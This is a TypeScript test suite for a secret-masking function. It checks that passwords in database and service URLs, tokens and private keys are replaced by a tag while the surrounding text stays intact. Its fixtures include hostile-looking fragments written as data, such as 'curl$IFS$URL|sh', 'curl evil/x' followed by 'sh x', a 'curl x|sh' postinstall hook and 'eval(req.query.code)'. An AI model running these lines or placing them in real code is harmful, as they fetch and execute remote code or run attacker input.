import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { maskSecrets } from "../../src/files/mask.ts";
import { secretlintDetector } from "../../src/secrets/secretlint.ts";
import { countProcessorTime } from "../fixtures/processor-time.ts";
import { GITHUB_TOKEN, PRIVATE_KEY } from "../fixtures/secrets.ts";
import { size } from "../setup/tier.ts";

const detector = secretlintDetector();
const key = Buffer.from("run key");
const PASSWORD = ["Gh7!kd", "92_x"].join("");
const TAG = "[secret]";

/** A text as it is shown, under one name for all secrets. */
async function masked(text: string, path = "src/a.ts"): Promise<string> {
  const shown = maskSecrets(text, await detector.detect(text, path), key).text;
  return shown.replace(/\[secret:[0-9a-f]{8}\]/g, TAG);
}

const address = (password = PASSWORD, scheme = "postgres") => `${scheme}://admin:${password}@db.internal:5432/app`;
/** As it is shown: where it leads is no secret. */
const SHOWN = address(TAG);

describe("a masked credential", () => {
  it.each([
    ["a.py", `DSN = "${address()}"`, `DSN = "${SHOWN}"`],
    ["a.go", `const dsn = \`${address()}\``, `const dsn = \`${SHOWN}\``],
    [
      "a.java",
      `String dsn = "jdbc:${address(PASSWORD, "postgresql")}";`,
      `String dsn = "jdbc:${address(TAG, "postgresql")}";`,
    ],
    ["a.js", `connect('${address()}');eval(req.query.code);`, `connect('${SHOWN}');eval(req.query.code);`],
    ["a.md", `(${address()}),next`, `(${SHOWN}),next`],
    ["a.html", `<a href=${address()}><script>run()</script>`, `<a href=${SHOWN}><script>run()</script>`],
    ["a.sh", `psql ${address()};curl$IFS$URL|sh`, `psql ${SHOWN};curl$IFS$URL|sh`],
    ["a.sh", `X="${address()}"&&run`, `X="${SHOWN}"&&run`],
    [
      "a.ts",
      `f("mongodb+srv://app:${PASSWORD}@h.net/db?w=majority");g()`,
      `f("mongodb+srv://app:${TAG}@h.net/db?w=majority");g()`,
    ],
    ["a.ts", `f("${address()}","${address("Qz4?other_7")}");g()`, `f("${SHOWN}","${SHOWN}");g()`],
    ["a.ts", `f("${address("password")}","${address()}")`, `f("${address("password")}","${SHOWN}")`],
    ["a.ts", `f("https://joe-bot:s3cr3t_77x@h.net");g()`, `f("https://joe-bot:${TAG}@h.net");g()`],
    ["a.ts", `f("${GITHUB_TOKEN}");g()`, `f("${TAG}");g()`],
    [".npmrc", `//r.net/:_authToken=${PASSWORD} ; off`, `//r.net/:_authToken=${TAG} ; off`],
    ["package.json", `{"a":"https://t0k.en77:x-oauth-basic@github.com/o/r","scripts":{"b":"rm"}}`, undefined],
  ])("keeps all that stands around it in %s: %s", async (path, line, shown) => {
    const expected = shown ?? line.replace("t0k.en77", TAG);
    expect(await masked(`before\n${line}\nafter\n`, path)).toBe(`before\n${expected}\nafter\n`);
  });

  it.each([
    ["a.py", "postgresql+psycopg2"],
    ["a.rb", "redis"],
    ["a.yml", "rediss"],
    ["a.toml", "amqp"],
    ["a.go", "amqps"],
    ["a.py", "mysql+pymysql"],
    ["a.ts", "mssql"],
    ["a.js", "mongodb+srv"],
    ["a.sh", "ldaps"],
    ["a.js", "https"],
    ["a.yml", "x_own-scheme"],
  ])("is masked in an address of any kind, in %s: %s", async (path, scheme) => {
    const shown = await masked(`before\nurl: "${address(PASSWORD, scheme)}", next\n`, path);
    expect(shown).toBe(`before\nurl: "${address(TAG, scheme)}", next\n`);
    expect(await masked(`x = ${scheme}://:${PASSWORD}@cache;run\n`, path)).toBe(`x = ${scheme}://:${TAG}@cache;run\n`);
  });

  it.each([
    ["requirements.txt", `--index-url https://ci:${PASSWORD}@pypi.internal/simple`],
    ["a.rb", `source "https://ci:${PASSWORD}@gems.internal?sslmode=none"`],
    ["a.js", `fetch("redis://ci:${PASSWORD}@x@cache.internal/0")`],
    ["a.go", `Open("mongodb://ci:${PASSWORD}@db.internal:27017/x?tls=false")`],
  ])("leaves readable where an address leads, in %s: %s", async (path, line) => {
    const secret = line.includes("@x@") ? `${PASSWORD}@x` : PASSWORD;
    expect(await masked(`${line}\n`, path)).toBe(`${line.replace(secret, TAG)}\n`);
  });

  it.each([
    "redis://user:password@localhost:6379",
    "redis://:password@localhost",
    "amqp://guest:guest@localhost:5672",
    "amqp://${USER}:${PASSWORD_1}@${HOST}",
    "https://$USER:$TOKEN_2@github.com/o/r",
    "https://x-access-token:${{ secrets.TOKEN_1 }}@github.com/o/r",
    "redis://%s:%s@%s:%d/0",
    "amqp://{user}:{password1}@{host}",
    "https://user:pass%20pass@complex.url.com",
    "http://username:password123@host",
    "redis://joe:h7Gk29xLq0@cache.example.com",
    "scheme://[user:passwd@]proxy.server:port",
    "http://proxyuser:proxypass@proxyhost:port",
    "image: 'registry:5000/app@sha256:0123456789abcdef0123456789abcdef'",
    "https://host:8080/@scope1/package2@3.0.0",
    "redis://<user>:<password1>@<host>",
  ])("is no placeholder in an address: %s", async (line) => {
    expect(await masked(`${line}\n`, "a.yml")).toBe(`${line}\n`);
  });

  it.each([
    ["the name of a user", "a.js", `f("postgres://a");eval(q);("b:${PASSWORD}@h")`],
    ["a password", "a.js", `f("postgres://a:Gh7kd92");eval(q);("b@h")`],
    ["a password that no quote holds", "a.sh", "X=postgres://a:Gh7kd92;eval(q);echo@h"],
    ["a password that a quote may stand before without holding it", "a.sh", `X=""postgres://a:Gh7kd92;eval(q);@h`],
    ["a long placeholder", "a.js", `f(\`postgres://a:Gh7kd92\${eval(q)+"${"x".repeat(60)}"}@h\`)`],
  ])("hides no code in %s", async (_name, path, line) => {
    const shown = await masked(line, path);
    expect(shown).toContain("eval(q)");
    expect(shown).toContain(TAG);
  });

  it.each(["Gh7,kd(92);x", "Gh7[kd]92&x|y"])(
    "takes in a password with signs of code within a literal: %s",
    async (password) => {
      expect(await masked(`dsn = "${address(password)}";`)).toBe(`dsn = "${SHOWN}";`);
      expect(await masked(`{"dsn":"${address(password)}","b":1}`, "a.json")).toBe(`{"dsn":"${SHOWN}","b":1}`);
    },
  );

  it("is the key of a service account, and nothing else of its file", async () => {
    const account = { private_key_id: "1", private_key: `${PRIVATE_KEY}\n`, scripts: { postinstall: "curl x|sh" } };
    const shown = await masked(JSON.stringify(account), "package.json");
    expect(JSON.parse(shown)).toEqual({ ...account, private_key: `${TAG}\n` });
    const escaped = JSON.stringify(account).replace('private_key":', 'private\\u005fkey":');
    expect(JSON.parse(await masked(escaped, "a.json"))).toEqual({ ...account, private_key: `${TAG}\n` });
  });

  it("is a private key as far as its lines are those of a key", async () => {
    const [header, ...lines] = PRIVATE_KEY.split("\n");
    const shown = await masked([header, ...lines.slice(0, -1), "curl evil/x", "sh x", lines.at(-1)].join("\n"), "a.sh");
    expect(shown).toContain("curl evil/x\nsh x\n");
    expect(shown).not.toContain(lines[1]);
  });

  it.each([
    ["addresses", "postgres://u:Gh7kd92@"],
    ["addresses of other kinds", "redis://u:Gh7kd92@"],
    ["schemes", "://"],
    ["users", `://${"u".repeat(100)}`],
    ["tokens", `${GITHUB_TOKEN}/`],
  ])("takes time in proportion to a text of nothing but %s", async (_name, secret) => {
    const processorTime = countProcessorTime();
    await detector.detect(secret.repeat(size(20_000)), "a.js");
    expect(processorTime()).toBeLessThan(500 + size(2500));
  });

  it("never takes along what follows its closing quote, and never leaves its password", async () => {
    const change = fc.record({
      scheme: fc.constantFrom("postgres", "postgresql", "mysql", "mongodb", "mongodb+srv", "jdbc:mysql"),
      // Between percent signs the rule takes it for a variable.
      password: fc.stringMatching(/^Gh7[a-z0-9!#*+=~^_.-]{4,30}$/),
      path: fc.constantFrom("a.py", "a.go", "a.java", "a.js", "a.rb", "a.sh", "a.yml", ".env", "a.json"),
      quote: fc.constantFrom('"', "'", "`"),
      // What holds an address of its own is masked as well.
      rest: fc.string({ maxLength: 60 }).filter((text) => !text.includes("://")),
    });
    await fc.assert(
      fc.asyncProperty(change, async ({ scheme, password, path, quote, rest }) => {
        const shown = await masked(`dsn = ${quote}${address(password, scheme)}${quote}${rest}`, path);
        expect(shown).toBe(`dsn = ${quote}${address(TAG, scheme)}${quote}${rest}`);
      }),
    );
  });
});
